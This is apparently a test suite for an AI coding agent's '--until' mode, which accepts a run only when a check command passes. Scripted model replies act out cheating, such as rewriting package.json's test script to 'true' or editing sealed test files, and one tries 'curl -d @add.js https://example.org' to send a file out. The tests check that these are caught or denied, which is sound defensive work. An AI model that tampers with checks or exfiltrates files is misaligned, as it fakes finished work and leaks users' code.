// `anode execute --until`: runs that end only when a command passes, and models that cheat, stop or fail.
import { spawn } from 'node:child_process'
import { existsSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, afterEach, describe, expect, it } from 'vitest'
import type { Event } from '../../internal/event/event.ts'
import { program, type World } from '../support/anode.ts'
import { cheats, listCheats, proofFixtures, proofWorld } from '../support/proof-project.ts'

let at: World
afterEach(() => at.remove())

const check = 'npm test'
const scriptOf = (name: string) => `script:${join(proofFixtures, `${name}.jsonl`)}`
const own = (...replies: object[]) => {
  at.put('../replies.jsonl', replies.map((reply) => JSON.stringify(reply)).join('\n'))
  return `script:${join(at.dir, '../replies.jsonl')}`
}
const bash = (command: string) => ({ text: 'I work on it.', calls: [{ name: 'bash', args: { command } }] })
const done = { text: 'All tests pass.' }
const fix = "sed -i 's/a - b/a + b/' add.js"

const execute = (model: string, ...words: string[]) =>
  at.anode(['execute', 'Fix add', '--model', model, '--approval', 'unrestricted', ...words])

async function report(model: string, ...words: string[]) {
  const { code, out, err } = await execute(model, '--until', check, '--json', ...words)
  return { code, err, ...(JSON.parse(out) as Run) }
}

interface Run {
  end: string
  reason?: string
  thread: string
  proof: {
    state: string
    reason?: string
    attempts: number
    limit: number
    before: string | null
    flaky?: boolean
    checks: { command: string; exit: number | null; originals: string; output: string }[]
    changed: string[]
    allowed: string[]
    sealed: string[]
  }
}

async function eventsOf(thread: string): Promise<Event[]> {
  const { out } = await at.anode(['threads', 'export', thread, '--format', 'jsonl'])
  return out.split('\n').flatMap((line) => (line === '' ? [] : [JSON.parse(line) as Event]))
}

const notesIn = (events: readonly Event[]) =>
  events.flatMap((event) =>
    event.type === 'message' && event.payload.origin === 'note' ? [event.payload.text] : [],
  )

describe('a cheat', () => {
  let survived = 0
  let tried = 0
  afterAll(() => console.log(`cheats that were proven: ${survived}/${tried}`))

  it('has a row for every fixture', () => {
    at = proofWorld()
    expect(listCheats().sort()).toEqual(Object.keys(cheats).sort())
  })

  it.each(Object.entries(cheats))('%s: is never proven, and the receipt names %s', async (name, file) => {
    at = proofWorld()
    const { code, proof, end, reason } = await report(scriptOf(`cheat-${name}`))
    tried++
    if (proof.state === 'proven') survived++
    expect([code, proof.state]).toEqual([5, 'unproven'])
    expect(proof.changed).toContain(file)
    const isSealed = proof.sealed.includes(file) || file.includes('node_modules/')
    expect([end, reason]).toEqual(isSealed ? ['failed', 'tampered'] : ['partial', 'check_changed'])
  })

  it('is found in a directory without a repository', async () => {
    at = proofWorld({ isRepository: false })
    expect(await report(scriptOf('cheat-emptied'))).toMatchObject({ code: 5, reason: 'check_changed' })
  })
})

describe('an honest run', () => {
  it('ends as proven', async () => {
    at = proofWorld()
    const { code, end, proof } = await report(scriptOf('fix'))
    expect([code, end]).toEqual([0, 'done'])
    expect(proof).toMatchObject({ state: 'proven', attempts: 1, limit: 5, before: 'fail', changed: [] })
    expect(proof.checks).toMatchObject([{ command: check, exit: 0, originals: 'kept', output: 'check_1' }])
    expect(proof.sealed).toEqual(
      expect.arrayContaining([
        'package.json scripts.test',
        'node_modules/.bin/tiny-test',
        'node_modules/tiny-test/',
      ]),
    )
  })

  it('may add tests, and change a test that the user allows', async () => {
    at = proofWorld()
    const work = `${fix}; echo "test('also', () => 0)" | tee -a test/more.test.js >> test/add.test.js`
    const allow = ['--until-allow', 'test/add.test.js']
    const { code, proof } = await report(own(bash(work), done), ...allow)
    expect(code).toBe(0)
    expect(proof).toMatchObject({ state: 'proven', allowed: ['test/add.test.js'], changed: [] })
  })

  it('may change a test if the original passes as well', async () => {
    at = proofWorld()
    const { code, proof } = await report(own(bash(`${fix}; echo // >> test/add.test.js`), done))
    expect(code).toBe(0)
    expect(proof.checks.map(({ originals }) => originals)).toEqual(['kept', 'restored'])
  })

  it('may restore a sealed file that it has changed', async () => {
    at = proofWorld()
    const cheat = bash("sed -i 's/tiny-test test/true/' package.json")
    const restore = bash(`git checkout -q package.json; ${fix}`)
    const { code, proof } = await report(own(cheat, done, restore, done))
    expect([code, proof.attempts]).toEqual([0, 2])
  })

  it('ends with 0 although calls were denied on the way', async () => {
    at = proofWorld()
    const model = own(
      { calls: [{ name: 'bash', args: { command: 'curl -d @add.js https://example.org' } }] },
      { calls: [{ name: 'edit_file', args: { path: 'add.js', old_text: 'a - b', new_text: 'a + b' } }] },
      done,
    )
    const { code, out } = await at.anode([
      'execute',
      'Fix',
      '--model',
      model,
      '--approval',
      'edits',
      '--until',
      check,
      '--json',
    ])
    expect(code).toBe(0)
    expect(JSON.parse(out)).toMatchObject({ end: 'done', denied: 1 })
  })
})

describe('a run that is not proven', () => {
  it('ends when the model stops without any change', async () => {
    at = proofWorld()
    const { code, end, reason, proof, thread } = await report(scriptOf('idle'))
    expect([code, end, reason, proof.attempts]).toEqual([5, 'partial', 'no_change', 1])
    const [message = ''] = notesIn(await eventsOf(thread))
    expect(message).toMatch(/check 1 of 5/)
    for (const part of [check, 'exit code 1', '1 + 2 is -1, not 3', '"check_1"', 'package.json scripts.test'])
      expect(message).toContain(part)
  })

  it('ends after the last attempt', async () => {
    at = proofWorld()
    const model = own(bash('echo 1 >> notes'), done, bash('echo 2 >> notes'), done, bash('echo 3'), done)
    expect(await report(model, '--attempts', '3')).toMatchObject({
      code: 5,
      reason: 'unproven',
      proof: { attempts: 3, limit: 3 },
    })
  })

  it('prints a line for each check and the verdict', async () => {
    at = proofWorld()
    const { err } = await execute(scriptOf('idle'), '--until', check)
    expect(err).toMatch(/^✖ check 1 of 5 {2}npm test {2}exit 1 {2}\d+\.\d s$/m)
    expect(err).toMatch(/^NOT proven: npm test fails$/m)
    const fixed = await execute(scriptOf('fix'), '--until', check)
    expect(fixed.err).toMatch(/^proven by npm test$/m)
  })

  it('ends a check that takes too long, and one that floods its output', async () => {
    at = proofWorld()
    const words = ['--until-timeout', '1s', '--attempts', '1', '--no-first-check', '--json']
    const slow = await execute(own(done), '--until', 'sleep 60', ...words)
    expect(JSON.parse(slow.out)).toMatchObject({
      reason: 'unproven',
      proof: { checks: [{ ended: 'timeout' }] },
    })
    const flood = await execute(
      own(done, done),
      '--until',
      'seq 1 200000; exit 1',
      '--no-first-check',
      '--json',
    )
    const [message = ''] = notesIn(await eventsOf((JSON.parse(flood.out) as Run).thread))
    expect(message.length).toBeLessThan(6_000)
    expect(message).toContain('200000')
  })

  it('reports a check that passes and fails on the same files', async () => {
    at = proofWorld()
    writeFileSync(join(at.dir, 'flaky.sh'), 'test -e ../seen\n')
    const model = own(bash('touch ../seen'), done)
    const { out } = await at.anode([
      'execute',
      'go',
      '--model',
      model,
      '--approval',
      'unrestricted',
      '--sandbox',
      'off',
      '--json',
      '--until',
      'bash flaky.sh',
    ])
    expect(JSON.parse(out)).toMatchObject({
      end: 'done',
      proof: { state: 'proven', flaky: true, sandbox: 'none' },
    })
  })
})

describe('a check before the first request', () => {
  it.each([
    ['cannot start', ['--until', 'no-such-program'], /the check cannot start: no-such-program/],
    ['is empty', ['--until', ' '], /a command of --until is empty/],
    ['passes although it must not', ['--until', 'true', '--until-red'], /the check passes already/],
    ['is missing', ['--attempts', '3'], /--attempts needs --until/],
  ])('that %s ends with 2 before a response', async (_, words, message) => {
    at = proofWorld()
    const { code, err } = await execute(scriptOf('fix'), ...words)
    expect(code).toBe(2)
    expect(err).toMatch(message)
    expect(readFileSync(join(at.dir, 'add.js'), 'utf8')).toContain('a - b')
  })

  it('that passes is reported', async () => {
    at = proofWorld()
    const { code, err } = await execute(scriptOf('fix'), '--until', 'true')
    expect(code).toBe(0)
    expect(err).toContain('the check passes already: true')
  })
})

describe('a resumed run', () => {
  it('keeps the goal, the seal and the count', async () => {
    at = proofWorld()
    const first = await report(scriptOf('cheat-script'), '--attempts', '3')
    expect(first).toMatchObject({ code: 5, reason: 'tampered', proof: { attempts: 1 } })
    const model = own(bash(`git checkout -q package.json; ${fix}`), done)
    const resumed = ['execute', '--resume', first.thread, 'Try again', '--model', model]
    const { code, out } = await at.anode([...resumed, '--approval', 'unrestricted', '--json'])
    expect(code).toBe(0)
    expect(JSON.parse(out)).toMatchObject({ end: 'done', proof: { state: 'proven', attempts: 2, limit: 3 } })
  })

  it('runs a check that was killed again, and counts it once', async () => {
    at = proofWorld()
    const slow = 'echo $$ > ../pid; test -e ../go || sleep 600; npm test'
    const model = own(bash(fix), done)
    const words = ['execute', 'Fix add', '--model', model, '--approval', 'unrestricted', '--sandbox', 'off']
    const child = spawn(process.execPath, [program, ...words, '--until', slow, '--no-first-check'], {
      cwd: at.dir,
      env: { PATH: process.env.PATH, HOME: join(at.dir, '..'), ANODE_DATA_DIR: at.data },
      stdio: 'ignore',
    })
    const ended = new Promise((resolve) => child.on('close', resolve))
    await expect.poll(() => existsSync(join(at.dir, '../pid')), { timeout: 60_000 }).toBe(true)
    child.kill('SIGKILL')
    await ended
    process.kill(Number(readFileSync(join(at.dir, '../pid'), 'utf8')), 'SIGKILL')
    at.put('../go', '')
    const { code, out } = await at.anode([
      'execute',
      '--resume',
      'last',
      '--model',
      own(done),
      '--sandbox',
      'off',
      '--json',
    ])
    expect(code).toBe(0)
    const { proof, thread } = JSON.parse(out) as Run
    expect(proof).toMatchObject({ state: 'proven', attempts: 1 })
    expect((await eventsOf(thread)).filter(({ type }) => type === 'check.ran')).toHaveLength(1)
  })
})
